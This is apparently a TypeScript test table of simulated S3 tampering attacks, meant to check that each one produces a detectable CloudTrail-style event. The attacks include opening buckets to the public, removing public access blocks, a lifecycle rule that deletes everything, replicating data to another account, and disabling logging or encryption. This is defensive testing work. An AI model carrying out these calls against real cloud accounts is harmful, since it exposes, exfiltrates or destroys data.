/** Attacks on buckets: who may read them, and what keeps their objects. Long because it is a table. */
import { ACCOUNT, type Attack, type Aws, bucket, failureOf, type Json, type Made } from './attack.ts';

const everybody = (name = '') => ({
  Version: '2012-10-17',
  Statement: [{ Effect: 'Allow', Principal: '*', Action: 's3:GetObject', Resource: `arn:aws:s3:::${name}/*` }],
});
const ownOnly = (name = '') => ({
  Version: '2012-10-17',
  Statement: [
    {
      Effect: 'Allow',
      Principal: { AWS: `arn:aws:iam::${ACCOUNT}:root` },
      Action: ['s3:GetObject', 's3:PutObject'],
      Resource: `arn:aws:s3:::${name}/*`,
    },
  ],
});
const put = (aws: Aws, operation: string, name: string | undefined, input: Json = {}) =>
  aws('s3', operation, { Bucket: name, ...input });
const look =
  (operation: string, member: string) =>
  (aws: Aws, { name }: Made): Promise<unknown> =>
    aws('s3', operation, { Bucket: name }).then((answer) => answer[member], failureOf);
const policyLook = (aws: Aws, { name }: Made) =>
  aws('s3', 'GetBucketPolicy', { Bucket: name }).then(({ Policy }) => JSON.parse(String(Policy)) as unknown, failureOf);
const versioned = async (aws: Aws) => {
  const name = await bucket(aws);
  await put(aws, 'PutBucketVersioning', name, { VersioningConfiguration: { Status: 'Enabled' } });
  return name;
};
const logBucket = async (aws: Aws) => {
  const name = await bucket(aws);
  await put(aws, 'PutBucketAcl', name, { ACL: 'log-delivery-write' });
  return name;
};
const NAMESPACE = 'http://s3.amazonaws.com/doc/2006-03-01/';
const FLAGS = { BlockPublicAcls: true, IgnorePublicAcls: true, BlockPublicPolicy: true, RestrictPublicBuckets: false };
const named =
  (event: string) =>
  ({ name }: Made) => ({ event, request: { bucketName: name } });

const ACCESS: readonly Attack[] = [
  {
    row: 13,
    name: 'a bucket is opened to the world',
    before: async (aws) => {
      const name = await bucket(aws);
      await put(aws, 'PutBucketPolicy', name, { Policy: JSON.stringify(ownOnly(name)) });
      return { name };
    },
    names: named('s3:PutBucketPolicy'),
    attack: async (aws, { name }) => {
      const bucketPolicy = everybody(name);
      await put(aws, 'PutBucketPolicy', name, { Policy: JSON.stringify(bucketPolicy) });
      const request = { bucketName: name, bucketPolicy, Host: 's3.us-west-1.amazonaws.com', policy: '' };
      return { event: 's3:PutBucketPolicy', request };
    },
    look: policyLook,
  },
  {
    row: 13,
    name: 'a bucket that had no policy gets one',
    before: async (aws) => ({ name: await bucket(aws) }),
    names: named('s3:PutBucketPolicy'),
    attack: async (aws, { name }) => {
      await put(aws, 'PutBucketPolicy', name, { Policy: JSON.stringify(everybody(name)) });
      return { event: 's3:PutBucketPolicy', request: { bucketName: name, bucketPolicy: everybody(name) } };
    },
    look: policyLook,
  },
  {
    row: 13,
    name: 'the policy that denied is taken off a bucket',
    before: async (aws) => {
      const name = await bucket(aws);
      await put(aws, 'PutBucketPolicy', name, { Policy: JSON.stringify(ownOnly(name)) });
      return { name };
    },
    names: named('s3:DeleteBucketPolicy'),
    attack: async (aws, { name }) => {
      await put(aws, 'DeleteBucketPolicy', name);
      return { event: 's3:DeleteBucketPolicy', request: { bucketName: name, policy: '' } };
    },
    look: policyLook,
  },
  {
    row: 14,
    name: 'everybody may read a bucket, by a canned list',
    before: async (aws) => ({ name: await bucket(aws) }),
    names: named('s3:PutBucketAcl'),
    attack: async (aws, { name }) => {
      await put(aws, 'PutBucketAcl', name, { ACL: 'public-read' });
      return { event: 's3:PutBucketAcl', request: { bucketName: name, acl: [''], 'x-amz-acl': ['public-read'] } };
    },
    look: look('GetBucketAcl', 'Grants'),
  },
  {
    row: 14,
    name: 'any account may read and write a bucket, and logs are no longer delivered',
    before: async (aws) => ({ name: await logBucket(aws) }),
    names: named('s3:PutBucketAcl'),
    attack: async (aws, { name }) => {
      const { Owner } = await aws('s3', 'GetBucketAcl', { Bucket: name });
      const URI = 'http://acs.amazonaws.com/groups/global/AuthenticatedUsers';
      const { ID } = Owner as Json;
      const Grants = [
        { Grantee: { Type: 'CanonicalUser', ID }, Permission: 'FULL_CONTROL' },
        { Grantee: { Type: 'Group', URI }, Permission: 'READ' },
        { Grantee: { Type: 'Group', URI }, Permission: 'WRITE' },
      ];
      await put(aws, 'PutBucketAcl', name, { AccessControlPolicy: { Owner, Grants } });
      const Grant = Grants.map(({ Grantee: { Type, ...who }, Permission }) => ({
        Grantee: { ...who, 'xmlns:xsi': 'http://www.w3.org/2001/XMLSchema-instance', 'xsi:type': Type },
        Permission,
      }));
      const AccessControlPolicy = { AccessControlList: { Grant }, Owner, xmlns: NAMESPACE };
      return { event: 's3:PutBucketAcl', request: { bucketName: name, acl: [''], AccessControlPolicy } };
    },
    look: look('GetBucketAcl', 'Grants'),
  },
  {
    row: 15,
    name: 'the public access block of a bucket is removed',
    before: async (aws) => {
      const name = await bucket(aws);
      await put(aws, 'PutPublicAccessBlock', name, { PublicAccessBlockConfiguration: FLAGS });
      return { name };
    },
    names: named('s3:DeleteBucketPublicAccessBlock'),
    attack: async (aws, { name }) => {
      await put(aws, 'DeletePublicAccessBlock', name);
      return { event: 's3:DeleteBucketPublicAccessBlock', request: { bucketName: name, publicAccessBlock: '' } };
    },
    look: look('GetPublicAccessBlock', 'PublicAccessBlockConfiguration'),
  },
  {
    row: 15,
    name: 'the public access block of a bucket is loosened',
    before: async (aws) => {
      const name = await bucket(aws);
      await put(aws, 'PutPublicAccessBlock', name, { PublicAccessBlockConfiguration: FLAGS });
      return { name };
    },
    names: named('s3:PutBucketPublicAccessBlock'),
    attack: async (aws, { name }) => {
      const loose = { ...FLAGS, BlockPublicPolicy: false };
      await put(aws, 'PutPublicAccessBlock', name, { PublicAccessBlockConfiguration: loose });
      const request = { bucketName: name, PublicAccessBlockConfiguration: { xmlns: NAMESPACE, ...loose } };
      return { event: 's3:PutBucketPublicAccessBlock', request };
    },
    look: look('GetPublicAccessBlock', 'PublicAccessBlockConfiguration'),
  },
  ...['s3:DeleteAccountPublicAccessBlock', 's3-control:PutAccountPublicAccessBlock'].map(
    (event): Attack => ({
      row: 15,
      name: `the public access block of the account is gone (${event})`,
      before: async (aws) => {
        const input = { AccountId: ACCOUNT, PublicAccessBlockConfiguration: FLAGS };
        await aws('s3-control', 'PutPublicAccessBlock', input);
        return {};
      },
      names: () => ({ event: 's3:PutAccountPublicAccessBlock', request: {} }),
      attack: async (aws) => {
        const none = Object.fromEntries(Object.keys(FLAGS).map((flag) => [flag, false]));
        if (event.includes('Delete')) await aws('s3-control', 'DeletePublicAccessBlock', { AccountId: ACCOUNT });
        else
          await aws('s3-control', 'PutPublicAccessBlock', { AccountId: ACCOUNT, PublicAccessBlockConfiguration: none });
        return {
          event,
          request: { accountId: ACCOUNT, PublicAccessBlockConfiguration: { xmlns: NAMESPACE, ...none } },
        };
      },
      look: (aws) =>
        aws('s3-control', 'GetPublicAccessBlock', { AccountId: ACCOUNT }).then(
          (answer) => answer['PublicAccessBlockConfiguration'],
          failureOf,
        ),
    }),
  ),
];

/** As the console writes it, and CloudTrail: one rule is no list. */
const NUKE = { ID: 'nuke', Status: 'Enabled', Prefix: '*', Expiration: { Days: 1 } };
const KEPT = { ID: 'old', Status: 'Enabled', Filter: { Prefix: 'tmp/' }, Expiration: { Days: 30 } };

const KEEPING: readonly Attack[] = [
  {
    row: 16,
    name: 'versioning is suspended',
    before: async (aws) => ({ name: await versioned(aws) }),
    names: named('s3:PutBucketVersioning'),
    attack: async (aws, { name }) => {
      const VersioningConfiguration = { Status: 'Suspended' };
      await put(aws, 'PutBucketVersioning', name, { VersioningConfiguration });
      const told = { xmlns: NAMESPACE, Status: 'Suspended' };
      return { event: 's3:PutBucketVersioning', request: { bucketName: name, VersioningConfiguration: told } };
    },
    look: look('GetBucketVersioning', 'Status'),
  },
  {
    row: 17,
    name: 'a rule that deletes everything tomorrow',
    before: async (aws) => ({ name: await bucket(aws) }),
    names: named('s3:PutBucketLifecycle'),
    attack: async (aws, { name }) => {
      await put(aws, 'PutBucketLifecycleConfiguration', name, { LifecycleConfiguration: { Rules: [NUKE] } });
      const LifecycleConfiguration = { xmlns: NAMESPACE, Rule: NUKE };
      return { event: 's3:PutBucketLifecycle', request: { bucketName: name, lifecycle: '', LifecycleConfiguration } };
    },
    look: look('GetBucketLifecycleConfiguration', 'Rules'),
  },
  {
    row: 17,
    name: 'the rules of a bucket are replaced, in the spelling of XML',
    before: async (aws) => {
      const name = await bucket(aws);
      await put(aws, 'PutBucketLifecycleConfiguration', name, { LifecycleConfiguration: { Rules: [KEPT] } });
      return { name };
    },
    names: named('s3:PutBucketLifecycle'),
    attack: async (aws, { name }) => {
      const Tags = [
        { Key: 'kind', Value: 'log' },
        { Key: 'kept', Value: 'no' },
      ];
      const And = { Prefix: 'logs/', Tags };
      const rule = { Status: 'Enabled', Filter: { And }, Expiration: { Date: new Date('2030-01-01T00:00:00Z') } };
      await put(aws, 'PutBucketLifecycleConfiguration', name, { LifecycleConfiguration: { Rules: [rule, NUKE] } });
      const Rule = [
        {
          Status: 'Enabled',
          Filter: { And: { Prefix: 'logs/', Tag: Tags } },
          Expiration: { Date: '2030-01-01T00:00:00Z' },
        },
        { ...NUKE, Expiration: { Days: '1' } },
      ];
      const LifecycleConfiguration = { xmlns: NAMESPACE, Rule };
      return { event: 's3:PutBucketLifecycle', request: { bucketName: name, LifecycleConfiguration } };
    },
    look: look('GetBucketLifecycleConfiguration', 'Rules'),
  },
  {
    row: 17,
    name: 'the rules of a bucket are deleted',
    before: async (aws) => {
      const name = await bucket(aws);
      const Transitions = [{ Days: 30, StorageClass: 'GLACIER' }];
      const Rules = [KEPT, { ID: 'cold', Status: 'Enabled', Filter: { Prefix: 'a/' }, Transitions }];
      await put(aws, 'PutBucketLifecycleConfiguration', name, { LifecycleConfiguration: { Rules } });
      return { name };
    },
    names: named('s3:DeleteBucketLifecycle'),
    attack: async (aws, { name }) => {
      await put(aws, 'DeleteBucketLifecycle', name);
      return { event: 's3:DeleteBucketLifecycle', request: { bucketName: name, lifecycle: '' } };
    },
    look: look('GetBucketLifecycleConfiguration', 'Rules'),
  },
  ...[false, true].map(
    (had): Attack => ({
      row: 18,
      name: had ? 'copies go to a stranger instead' : 'copies of everything go to a stranger',
      before: async (aws) => {
        const [name, kept, stranger] = [await versioned(aws), await versioned(aws), await versioned(aws)];
        const rule = { ID: 'kept', Status: 'Enabled', Filter: { Prefix: '' }, Priority: 1 };
        const Rules = [
          {
            ...rule,
            DeleteMarkerReplication: { Status: 'Disabled' },
            Destination: { Bucket: `arn:aws:s3:::${kept}` },
          },
        ];
        const Role = `arn:aws:iam::${ACCOUNT}:role/copies`;
        if (had) await put(aws, 'PutBucketReplication', name, { ReplicationConfiguration: { Role, Rules } });
        return { name, stranger };
      },
      names: named('s3:PutBucketReplication'),
      attack: async (aws, { name, stranger }) => {
        const Role = `arn:aws:iam::${ACCOUNT}:role/thief`;
        const Destination = { Bucket: `arn:aws:s3:::${stranger}`, Account: '444455556666' };
        const rule = { Status: 'Enabled', Priority: 1, DeleteMarkerReplication: { Status: 'Disabled' }, Destination };
        const Rules = [{ ...rule, Filter: { Prefix: '' } }];
        await put(aws, 'PutBucketReplication', name, { ReplicationConfiguration: { Role, Rules } });
        const ReplicationConfiguration = { xmlns: NAMESPACE, Role, Rule: { ...rule, Priority: '1', Filter: '' } };
        return { event: 's3:PutBucketReplication', request: { bucketName: name, ReplicationConfiguration } };
      },
      look: look('GetBucketReplication', 'ReplicationConfiguration'),
    }),
  ),
  {
    row: 19,
    name: 'what is read from a bucket is no longer logged',
    before: async (aws) => {
      const [name, target] = [await bucket(aws), await logBucket(aws)];
      const LoggingEnabled = { TargetBucket: target, TargetPrefix: 'shop/' };
      await put(aws, 'PutBucketLogging', name, { BucketLoggingStatus: { LoggingEnabled } });
      return { name };
    },
    names: named('s3:PutBucketLogging'),
    attack: async (aws, { name }) => {
      await put(aws, 'PutBucketLogging', name, { BucketLoggingStatus: {} });
      const request = { logging: '', bucketName: name, BucketLoggingStatus: { xmlns: NAMESPACE } };
      return { event: 's3:PutBucketLogging', request };
    },
    look: look('GetBucketLogging', 'LoggingEnabled'),
  },
  {
    row: 19,
    name: 'what is read from a bucket is logged elsewhere, where it was not before',
    before: async (aws) => ({ name: await bucket(aws), target: await logBucket(aws) }),
    names: named('s3:PutBucketLogging'),
    attack: async (aws, { name, target }) => {
      const LoggingEnabled = { TargetBucket: target, TargetPrefix: '' };
      await put(aws, 'PutBucketLogging', name, { BucketLoggingStatus: { LoggingEnabled } });
      const BucketLoggingStatus = { xmlns: NAMESPACE, LoggingEnabled };
      return { event: 's3:PutBucketLogging', request: { bucketName: name, BucketLoggingStatus } };
    },
    look: look('GetBucketLogging', 'LoggingEnabled'),
  },
  {
    row: 19,
    name: 'encryption is taken off a bucket',
    before: async (aws) => {
      const name = await bucket(aws);
      const given = { SSEAlgorithm: 'aws:kms', KMSMasterKeyID: 'alias/shop' };
      const Rules = [{ ApplyServerSideEncryptionByDefault: given, BucketKeyEnabled: true }];
      await put(aws, 'PutBucketEncryption', name, { ServerSideEncryptionConfiguration: { Rules } });
      return { name };
    },
    names: named('s3:DeleteBucketEncryption'),
    attack: async (aws, { name }) => {
      await put(aws, 'DeleteBucketEncryption', name);
      return { event: 's3:DeleteBucketEncryption', request: { bucketName: name, encryption: '' } };
    },
    look: look('GetBucketEncryption', 'ServerSideEncryptionConfiguration'),
  },
  {
    row: 19,
    name: 'a bucket is encrypted with the key of a stranger',
    before: async (aws) => ({ name: await bucket(aws) }),
    names: named('s3:PutBucketEncryption'),
    attack: async (aws, { name }) => {
      const stranger = 'arn:aws:kms:us-east-1:444455556666:key/11111111-2222-3333-4444-555555555555';
      const rule = { ApplyServerSideEncryptionByDefault: { SSEAlgorithm: 'aws:kms', KMSMasterKeyID: stranger } };
      await put(aws, 'PutBucketEncryption', name, { ServerSideEncryptionConfiguration: { Rules: [rule] } });
      const ServerSideEncryptionConfiguration = { xmlns: NAMESPACE, Rule: rule };
      return { event: 's3:PutBucketEncryption', request: { bucketName: name, ServerSideEncryptionConfiguration } };
    },
    look: look('GetBucketEncryption', 'ServerSideEncryptionConfiguration'),
  },
];

export const STORAGE_ATTACKS: readonly Attack[] = [...ACCESS, ...KEEPING];
